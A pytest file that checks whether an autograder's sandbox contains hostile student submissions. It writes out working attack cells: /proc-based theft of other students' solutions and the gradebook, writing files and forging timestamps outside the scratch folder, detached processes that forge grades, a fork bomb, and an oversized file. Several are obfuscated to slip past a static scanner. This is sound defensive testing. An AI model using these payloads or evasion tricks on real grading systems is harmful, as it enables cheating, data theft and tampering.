"""Attacks on the grading machine from a submission, graded for real in one batch with honest
students: with the sandbox each is contained, and with `--no-sandbox` each one succeeds, so
these tests pass because of the sandbox.

Every attack passes the static scan (tamper.py) and is added to a blank release, so an
attacker that is contained scores 0 and every honest student keeps their score.
"""
import copy
import os
import secrets
import signal
import socket
import threading
import time
from dataclasses import replace

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from autograder.grading import samples
from autograder.grading.cells import grade_id
from autograder.grading.pipeline import grade
from autograder.grading.tamper import scan_cell
from support.fixture_course import (
    ASSIGNMENT,
    NOTEBOOK,
    POINTS,
    cell_scores,
    expected_scores,
    make_course,
    write_students,
)

# grades with the real nbgrader; one xdist worker builds both batches (make test: --dist loadgroup)
pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("sandbox_attacks")]

MAX_FILE_MB = 16
MAX_PROCESSES = 64
FORK_BOMB_SIZE = 300  # bounded: the test's own processes, whether or not a limit stops them

# Finds course folders the way an attacker would: the working folders of every process it
# can see (the grader works in the course folder) and the folders above its own. Only real
# courses (with notebooks/): a grading worker's scratch course holds one other student's
# staged copy, which would make what a thief ends up with depend on timing.
FIND_COURSES = '''
import os
def _course_folders():
    found = []
    for pid in os.listdir('/proc'):
        if pid.isdigit():
            try:
                found.append(os.readlink('/proc/' + pid + '/cwd'))
            except OSError:
                pass
    folder = os.getcwd()
    while folder != os.path.dirname(folder):
        folder = os.path.dirname(folder)
        found.append(folder)
    return [f for f in dict.fromkeys(found)
            if os.path.isdir(os.path.join(f, 'submitted')) and os.path.isdir(os.path.join(f, 'notebooks'))]
'''

# Runs code the static scan never sees: exec reached through getattr and a built string.
RUN = "_run = getattr(locals()['__buil' + 'tins__'], 'ex' + 'ec')\n"

STEAL_FROM_OTHER_STUDENT = FIND_COURSES + RUN + '''
import json
for _course in _course_folders():
    _submitted = os.path.join(_course, 'submitted')
    for _student in sorted(os.listdir(_submitted)):
        try:
            _nb = json.load(open(os.path.join(_submitted, _student, 'fixture', 'fixture.ipynb')))
        except (OSError, ValueError):
            continue
        for _cell in _nb['cells']:
            _source = ''.join(_cell['source'])
            if _cell['cell_type'] == 'code' and _source.startswith('def ') and 'NotImplemented' not in _source:
                _run(_source, locals())
'''

STEAL_FROM_SOURCES = FIND_COURSES + RUN + '''
import json
for _course in _course_folders():
    print('read gradebook.db:', len(open(os.path.join(_course, 'gradebook.db'), 'rb').read()), 'bytes')
    _nb = json.load(open(os.path.join(_course, 'notebooks', 'fixture', 'fixture.ipynb')))
    for _cell in _nb['cells']:
        _source = ''.join(_cell['source'])
        if _cell['cell_type'] == 'code' and _source.startswith('def '):
            _run(_source, locals())
'''

WRITE_OUTSIDE = FIND_COURSES + '''
for _course in _course_folders():
    open(os.path.join(_course, 'written-by-a-submission.txt'), 'w').write('pwned')
    for _student in os.listdir(os.path.join(_course, 'submitted')):
        _stamp = os.path.join(_course, 'submitted', _student, 'fixture', 'timestamp.txt')
        if os.path.exists(_stamp):
            open(_stamp, 'w').write('2099-01-01 00:00:00.000000 UTC')
'''

# The detached process waits for the batch's grades.csv and rewrites its own row.
_REWRITE_GRADES = (
    "import os, sys, time\\n"
    "marker, courses = sys.argv[1], sys.argv[2:]\\n"
    "for _ in range(3000):\\n"
    "    time.sleep(0.1)\\n"
    "    for course in courses:\\n"
    "        path = os.path.join(course, 'grades.csv')\\n"
    "        if os.path.exists(path) and 'forged' not in open(path).read():\\n"
    "            open(path, 'a').write('fixture,forged,5.0\\\\n')\\n"
)

def _detached_spawn(marker):
    return FIND_COURSES + f'''
import sys
os.posix_spawn(sys.executable, [sys.executable, '-c', "{_REWRITE_GRADES}", '{marker}']
               + _course_folders(), dict(os.environ), setsid=True)
'''


def _double_fork(marker):
    return FIND_COURSES + f'''
import sys
_fork = getattr(os, 'fo' + 'rk')
if _fork() == 0:
    getattr(os, 'set' + 'sid')()
    if _fork() == 0:
        getattr(os, 'ex' + 'ecv')(sys.executable, [sys.executable, '-c', "{_REWRITE_GRADES}",
                                                   '{marker}'] + _course_folders())
    getattr(os, '_ex' + 'it')(0)
'''


def _connect_to(port):
    return f'''
import socket
_connection = socket.create_connection(('127.0.0.1', {port}), timeout=5)
_connection.sendall(b'a submission reached the network')
_connection.close()
'''


def _fork_bomb(sleep_seconds):
    return f'''
import os
_children = []
try:
    for _ in range({FORK_BOMB_SIZE}):
        _children.append(os.posix_spawn('/bin/sleep', ['sleep', '{sleep_seconds}'], {{}}))
finally:
    print('started', len(_children), 'processes')
'''

BIG_FILE = f'''
_chunk = b'0' * (1024 * 1024)
_written = 0
try:
    with open('big.bin', 'wb') as _out:
        for _ in range({MAX_FILE_MB + 200}):
            _out.write(_chunk)
            _out.flush()
            _written += 1
finally:
    print('wrote', _written, 'MiB')
'''


def _attacker(blank, source):
    """The blank release with `source` run before each test cell (after each solution cell)."""
    nb = copy.deepcopy(blank)
    for solution in ("relu", "square"):
        index = next(i for i, c in enumerate(nb.cells) if grade_id(c) == solution)
        nb.cells.insert(index + 1, new_code_cell(source))
    return nb


class Listener:
    """A TCP listener on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.accepted += 1
            connection.close()

    def close(self):
        self._stop.set()
        self._thread.join()
        self.server.close()


def _host_processes(needle):
    """pids of host processes whose command line contains `needle`."""
    pids = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                if needle.encode() in fh.read():
                    pids.append(int(pid))
        except OSError:
            pass
    return pids


def _kill(pids):
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


def _graded_output(settings, student):
    """What the student's cells printed and raised while graded (not their source)."""
    nb = nbformat.read(str(settings.root / "autograded" / student / ASSIGNMENT / NOTEBOOK), as_version=4)
    outputs = [o for c in nb.cells if c.cell_type == "code" for o in c.outputs]
    return "\n".join(o.get("text", "") + f"{o.get('ename', '')}: {o.get('evalue', '')}" for o in outputs)


class Batch:
    """What identifies one graded batch's attackers on the host: its listener's port, and the
    command lines of its detached processes and fork bomb (batches may run side by side)."""

    def __init__(self, port):
        self.port = port
        token = secrets.token_hex(4)
        self.detached_marker = f"autograder-attack-detached-{token}"
        self.sleep_seconds = f"4{int(token, 16) % 10}.{int(token, 16) % 9973}"


def attack_sources(batch):
    """attack name -> the cell it adds."""
    return {
        "steal_from_other_student": STEAL_FROM_OTHER_STUDENT, "steal_from_sources": STEAL_FROM_SOURCES,
        "write_outside": WRITE_OUTSIDE, "detached_spawn": _detached_spawn(batch.detached_marker),
        "double_fork": _double_fork(batch.detached_marker), "network": _connect_to(batch.port),
        "fork_bomb": _fork_bomb(batch.sleep_seconds), "big_file": BIG_FILE,
    }


ATTACKS = tuple(attack_sources(Batch(port=1)))


def _batch(tmp_path_factory, monkeypatch_factory, sandbox):
    root = tmp_path_factory.mktemp("sandboxed" if sandbox else "unsandboxed")
    settings = make_course(root, cell_timeout_s=30, max_file_mb=MAX_FILE_MB, max_processes=MAX_PROCESSES)
    settings = replace(settings, sandbox=sandbox)
    students = samples.build_samples(settings, ASSIGNMENT)
    blank = students["blank"][NOTEBOOK]
    listener = Listener()
    batch = Batch(listener.port)
    sources = attack_sources(batch)
    attackers = {f"attack_{name}": {NOTEBOOK: _attacker(blank, sources[name])} for name in ATTACKS}
    # the sample students (perfect, blank, tampered, each typical bug) sort after the attackers,
    # so a thief that keeps the last solution it finds keeps the perfect student's
    write_students(settings, {**attackers, **students})
    submitted = settings.default_submissions
    stamps_before = {p: p.read_bytes() for p in submitted.glob("*/*/timestamp.txt")}
    with monkeypatch_factory.context() as patch:
        patch.chdir(settings.root)  # as an instructor runs `grade`: in the course folder
        results = grade(settings, jobs=2, progress=False)
    grades_csv = settings.grades_csv.read_text()
    time.sleep(3)  # a detached process that survived has time to forge grades.csv
    outcome = {
        "results": results,
        "settings": settings,
        "listener_connections": listener.accepted,
        "stamps_changed": [p for p, data in stamps_before.items() if p.read_bytes() != data],
        "file_outside": (settings.root / "written-by-a-submission.txt").exists(),
        "detached_alive": _host_processes(batch.detached_marker),
        "sleepers_alive": _host_processes(batch.sleep_seconds),
        "grades_csv_at_export": grades_csv,
        "grades_csv_later": settings.grades_csv.read_text(),
    }
    listener.close()
    _kill(outcome["detached_alive"] + outcome["sleepers_alive"])
    return outcome


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    with pytest.MonkeyPatch.context() as patch:
        yield _batch(tmp_path_factory, patch, sandbox=True)


@pytest.fixture(scope="module")
def unsandboxed(tmp_path_factory):
    with pytest.MonkeyPatch.context() as patch:
        yield _batch(tmp_path_factory, patch, sandbox=False)


@pytest.mark.parametrize("name", ATTACKS)
def test_each_attack_passes_the_static_scan(name):
    assert scan_cell(attack_sources(Batch(port=1))[name], {"relu_forward", "square_derivative"}) == []


# ---------------------------------------------------------------------------- with the sandbox

def test_sandboxed_every_student_is_graded_and_honest_scores_hold(sandboxed):
    results = sandboxed["results"]
    assert cell_scores(results[(ASSIGNMENT, "perfect")]) == expected_scores()
    assert cell_scores(results[(ASSIGNMENT, "blank")]) == expected_scores(lost=POINTS)


def test_honest_students_score_the_same_with_and_without_the_sandbox(sandboxed, unsandboxed):
    honest = [student for _, student in sandboxed["results"] if not student.startswith("attack_")]
    assert {"perfect", "blank", "tampered", "bug-relu", "bug-square"} <= set(honest)
    for student in honest:
        assert cell_scores(sandboxed["results"][(ASSIGNMENT, student)]) == \
            cell_scores(unsandboxed["results"][(ASSIGNMENT, student)]), student


@pytest.mark.parametrize("name", ATTACKS)
def test_sandboxed_attacker_scores_as_the_blank_release_it_is(sandboxed, name):
    result = sandboxed["results"][(ASSIGNMENT, f"attack_{name}")]
    assert result.error is None
    assert cell_scores(result) == expected_scores(lost=POINTS)


def test_sandboxed_nothing_outside_the_scratch_folder_is_written(sandboxed):
    assert not sandboxed["file_outside"]
    assert sandboxed["stamps_changed"] == []


def test_sandboxed_no_process_of_a_submission_outlives_its_grading(sandboxed):
    assert sandboxed["detached_alive"] == []
    assert sandboxed["sleepers_alive"] == []
    assert sandboxed["grades_csv_later"] == sandboxed["grades_csv_at_export"]
    assert "forged" not in sandboxed["grades_csv_later"]


def test_sandboxed_no_connection_reaches_the_host(sandboxed):
    assert sandboxed["listener_connections"] == 0


def test_sandboxed_fork_bomb_and_big_file_hit_the_limits(sandboxed):
    bomb = _graded_output(sandboxed["settings"], "attack_fork_bomb")
    started = int(bomb.split("started ")[1].split(" ")[0])
    assert started < MAX_PROCESSES  # refused (BlockingIOError) long before the bomb's 300
    assert "BlockingIOError" in bomb or "Resource temporarily unavailable" in bomb
    big = _graded_output(sandboxed["settings"], "attack_big_file")
    assert f"wrote {MAX_FILE_MB} MiB" in big and "File too large" in big


def test_sandboxed_readers_find_nothing(sandboxed):
    output = _graded_output(sandboxed["settings"], "attack_steal_from_sources")
    assert "read gradebook.db" not in output


# ---------------------------------------------------------------------------- without it

def test_unsandboxed_thieves_score_full_marks(unsandboxed):
    results = unsandboxed["results"]
    for name in ("steal_from_other_student", "steal_from_sources"):
        assert cell_scores(results[(ASSIGNMENT, f"attack_{name}")]) == expected_scores(), name
    assert "read gradebook.db" in _graded_output(unsandboxed["settings"], "attack_steal_from_sources")


def test_unsandboxed_a_submission_writes_into_the_course(unsandboxed):
    assert unsandboxed["file_outside"]
    assert unsandboxed["stamps_changed"]


def test_unsandboxed_detached_processes_outlive_grading_and_forge_grades(unsandboxed):
    assert len(unsandboxed["detached_alive"]) >= 2  # posix_spawn(setsid=True) and the double fork
    assert "forged" in unsandboxed["grades_csv_later"]


def test_unsandboxed_a_submission_reaches_the_network(unsandboxed):
    assert unsandboxed["listener_connections"] >= 1


def test_unsandboxed_fork_bomb_and_big_file_are_unbounded(unsandboxed):
    # (nbgrader's kernel shutdown kills the kernel's process group, so these die with it)
    assert f"started {FORK_BOMB_SIZE} processes" in _graded_output(unsandboxed["settings"], "attack_fork_bomb")
    assert f"wrote {MAX_FILE_MB + 200} MiB" in _graded_output(unsandboxed["settings"], "attack_big_file")
